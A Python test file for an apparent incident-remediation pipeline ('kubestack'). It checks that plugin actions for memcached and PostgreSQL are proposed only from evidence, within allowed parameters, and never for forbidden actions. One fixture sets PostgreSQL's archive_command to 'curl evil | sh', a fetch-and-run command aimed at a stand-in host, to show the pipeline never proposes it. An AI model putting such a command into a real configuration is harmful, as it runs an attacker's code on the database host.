"""The proposals stage knows no plugin: an action declared by any plugin, with its typed parameters and remedies, is
proposed from the evidence its remedies read, and only with parameters its model accepts (pure)."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import datetime, timezone

from pydantic import Field

from kubestack.contract.base import ResourceRef, Source
from kubestack.contract.events import Incident, IncidentSignal, Risk, Severity, SignalKind
from kubestack.pipeline.proposals import propose
from kubestack.plugins.base import ActionParams, ActionSpec, WholeNumber
from kubestack.plugins.remedy import Clue, Offer, Remedy, undo

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=timezone.utc)
SRC = Source(agent="worker", host="w1")
CACHE = ResourceRef(kind="memcached", name="sessions", host="cache-3")


class Limit(ActionParams):
    megabytes: WholeNumber = Field(ge=1, le=65536, description="The new memory limit (-m), MB")


def more_memory(clue: Clue) -> Iterable[Offer]:
    if clue.evidence.get("limit_mb"):
        yield {"megabytes": clue.evidence["limit_mb"] * 2}, f"double the limit from {clue.evidence['limit_mb']} MB"


RAISE = ActionSpec(id="memcached.set_memory_limit", title="Set the memory limit", risk=Risk.MEDIUM, params=Limit,
                   preconditions=["the host has the memory"], rollback="set it back",
                   answers=(Remedy(more_memory, findings=("memcached.evictions",)),
                            Remedy(undo("megabytes"), changes=("limit_maxbytes",))))
FLUSH = ActionSpec(id="memcached.flush_all", title="Drop every item", risk=Risk.FORBIDDEN,
                   answers=(Remedy(lambda clue: [({}, "start empty")], findings=("memcached.evictions",)),))


def signal(name: str, kind: SignalKind = SignalKind.FINDING, **details) -> IncidentSignal:
    return IncidentSignal(event_id=f"e-{name}", kind=kind, name=name, resource=CACHE.key, first_seen=NOW,
                          last_seen=NOW, severity=Severity.WARNING, summary=name, details=details, score=1.0)


def run(*signals: IncidentSignal, offered=(RAISE, FLUSH)):
    incident = Incident(source=SRC, resource=CACHE, incident_id="inc-m", title="t", severity=Severity.WARNING,
                        opened_at=NOW, resources=[CACHE], member_event_ids=[s.event_id for s in signals],
                        signals=list(signals))
    return propose(incident, CACHE.key, list(signals), offered, SRC, NOW)


def test_a_new_plugins_remedy_is_proposed_from_its_evidence() -> None:
    [proposal] = run(signal("memcached.evictions", evidence={"limit_mb": 64}))
    assert (proposal.action, proposal.params, proposal.risk) == ("memcached.set_memory_limit", {"megabytes": 128},
                                                                 Risk.MEDIUM)
    assert proposal.expected_effect == "double the limit from 64 MB"
    assert proposal.verify_rules == ["memcached.evictions"] and proposal.preconditions == ["the host has the memory"]


def test_params_its_model_refuses_and_forbidden_actions_are_never_proposed() -> None:
    assert run(signal("memcached.evictions", evidence={"limit_mb": 40000})) == [], "80000 MB is over the model's 65536"
    assert run(signal("memcached.evictions", evidence={})) == [], "no evidence to set the parameter from"
    assert run(signal("memcached.evictions", evidence={"limit_mb": 64}), offered=(FLUSH,)) == []


def test_a_risky_change_is_undone_only_by_its_own_plugins_actions() -> None:
    change = [{"key": "limit_maxbytes", "old": "1024", "new": "16"}]
    [proposal] = run(signal("config-risk:memcached.memory_cut", SignalKind.ANOMALY, changes=change))
    assert proposal.params == {"megabytes": "1024"} and "restore limit_maxbytes to 1024" in proposal.expected_effect
    assert run(signal("config-risk:redis.maxmemory_lowered", SignalKind.ANOMALY, changes=change)) == []


def test_undo_covers_the_risky_key_only_and_only_settings_the_action_declares() -> None:
    from kubestack.plugins.postgresql.declaration import ACTIONS

    pg = ResourceRef(kind="postgresql", name="pg-1", host="db-1")
    changes = [{"key": "work_mem", "old": "4096", "new": "64"}, {"key": "shared_buffers", "old": "16384",
                                                                  "new": "32768"},
               {"key": "archive_command", "old": "cp %p /archive/%f", "new": "curl evil | sh"}]
    cut = IncidentSignal(event_id="e-cut", kind=SignalKind.ANOMALY, name="config-risk:postgresql.memory_cut",
                         resource=pg.key, first_seen=NOW, last_seen=NOW, severity=Severity.WARNING, summary="cut",
                         details={"changes": changes, "evidence": {"setting": "work_mem", "old": "4096", "new": "64"}},
                         score=1.0)
    incident = Incident(source=SRC, resource=pg, incident_id="inc-p", title="t", severity=Severity.WARNING,
                        opened_at=NOW, resources=[pg], member_event_ids=["e-cut"], signals=[cut])
    proposals = propose(incident, pg.key, [cut], ACTIONS, SRC, NOW)
    assert [(p.action, p.params) for p in proposals] == [
        ("postgresql.alter_system_set", {"name": "work_mem", "value": "4096"})], "not shared_buffers, never archive_command"
    unnamed = cut.model_copy(update={"details": {"changes": changes}})
    undone = {p.params["name"] for p in propose(incident, pg.key, [unnamed], ACTIONS, SRC, NOW)}
    assert undone == {"work_mem", "shared_buffers"}, "without a named setting: only the declared risky ones"
